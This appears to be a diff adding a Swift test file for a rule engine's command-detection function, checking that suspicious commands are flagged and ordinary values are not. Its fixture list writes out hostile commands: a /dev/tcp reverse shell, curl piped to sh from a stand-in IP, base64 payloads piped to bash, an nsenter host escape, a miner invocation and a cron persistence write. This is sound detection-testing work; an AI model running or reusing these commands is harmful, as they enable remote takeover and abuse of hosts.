@@ -1,0 +1,43 @@
+import CEL
+import JSONView
+import Testing
+
+@testable import Rules
+
+@Suite("Judging a command for all rules at once")
+struct CommandJudgementTests {
+    static let suspicious = [
+        "sh -c curl -s http://198.51.100.7/x | sh", "nsenter -t 1 -m -u -i -n sh", "echo aGVsbG8= | base64 -d | bash",
+        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "app -o stratum+tcp://pool.example:3333 -u wallet -p x",
+        "echo '* * * * * root x' > /host/etc/cron.d/x",
+        // `curl http://198.51.100.7/x|sh` in base64, which no rule would see without looking inside.
+        "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3h8c2g=",
+    ]
+
+    @Test("What one of the functions is about is of interest", arguments: suspicious)
+    func interesting(_ text: String) throws {
+        #expect(judge(text))
+    }
+
+    @Test(
+        "Ordinary commands and values are not",
+        arguments: [
+            "", "/bin/app --config=/etc/app/config.yaml", "prod", "8080", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
+        ])
+    func ordinary(_ text: String) {
+        #expect(!judge(text))
+    }
+
+    private func judge(_ text: String) -> Bool {
+        var copy = text
+        return copy.withUTF8 { bytes in
+            bytes.baseAddress.map { CommandJudgement.judge(JSONText(start: $0, count: bytes.count)) } ?? false
+        }
+    }
+
+    @Test("Every function about commands that rules may ask stands in the list")
+    func complete() {
+        let judged = RuleFunctions.library(lists: RuleLists()).overloads.map(\.function)
+        #expect(CommandJudgement.functions.isSubset(of: judged))
+    }
+}
